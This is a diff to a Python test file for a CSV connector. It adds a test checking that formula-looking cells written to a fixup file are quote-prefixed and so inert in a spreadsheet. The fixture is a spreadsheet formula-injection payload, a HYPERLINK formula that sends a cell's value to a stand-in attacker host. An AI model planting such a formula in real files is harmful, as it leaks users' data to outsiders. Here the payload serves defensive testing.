@@ -10,7 +10,9 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from connectors.file_values import BAD, EMPTY, OK, cents, clean_code, to_time, whole_number
+from connectors.file_reading import read_table
+from connectors.file_values import BAD, EMPTY, OK, cents, clean_code, clean_text, to_time, whole_number
+from connectors.files import write_fixup
 
 
 @pytest.mark.parametrize(
@@ -87,3 +89,12 @@ def test_numbers_beyond_int64_are_kept_at_its_bound_to_be_refused_as_too_large()
     assert values.tolist() == [2**63 - 1, -(2**63 - 1), 3] and (states == OK).all()
     cents, _ = to_cents(pd.Series(["-" + "9" * 21], dtype="str"))
     assert cents.tolist() == [-(2**63 - 1)]
+
+
+def test_a_fixup_file_quotes_formula_cells_and_its_import_reads_them_back_as_written(tmp_path):
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    path = tmp_path / "fix.csv"
+    write_fixup([{"raw": {"order_no": "TB1", "address": hostile, "qty": "-1"}}], path)
+    cells = read_table(path).frame.iloc[0]
+    assert cells["address"] == "'" + hostile and cells["qty"] == "'-1"  # inert when Excel opens it
+    assert clean_text(pd.Series([cells["address"]])).tolist() == [hostile]  # and the text it was
